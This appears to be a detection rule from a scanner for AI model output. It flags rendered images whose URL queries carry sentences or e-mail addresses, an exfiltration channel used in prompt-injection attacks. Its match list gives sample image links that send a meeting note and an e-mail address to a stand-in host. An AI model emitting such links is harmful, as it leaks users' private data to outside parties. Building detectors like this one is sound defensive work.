import { defineRule } from '../rule.js';

export default defineRule({
  id: 'exfiltration/text-in-image',
  title: 'Loads an image whose address holds a sentence or an e-mail address',
  scanner: 'output-payload',
  detector: 'structural',
  severity: 'medium',
  phase: 'actions_on_objective',
  tags: ['LLM02:2025', 'LLM05:2025', 'AML.T0077'],
  why: "The name of an image needs no sentences. What stands in its query reaches the image's owner as soon as the answer is shown.",
  fix: 'Do not render it. Load images from known hosts only.',
  surfaces: ['output', 'tool-call'],
  match: [
    '![x](https://a.example/p.gif?note=the%20meeting%20is%20at%20noon%20tomorrow)',
    '<img src="https://a.example/o.gif?u=jane.doe%40corp.example.com">',
  ],
  clean: [
    ['![x](https://cdn.example/team%20photo.png)', 'a file name'],
    ['![badge](https://img.shields.io/badge/all%20the%20tests%20pass%20today-green)', 'a badge'],
  ],
});
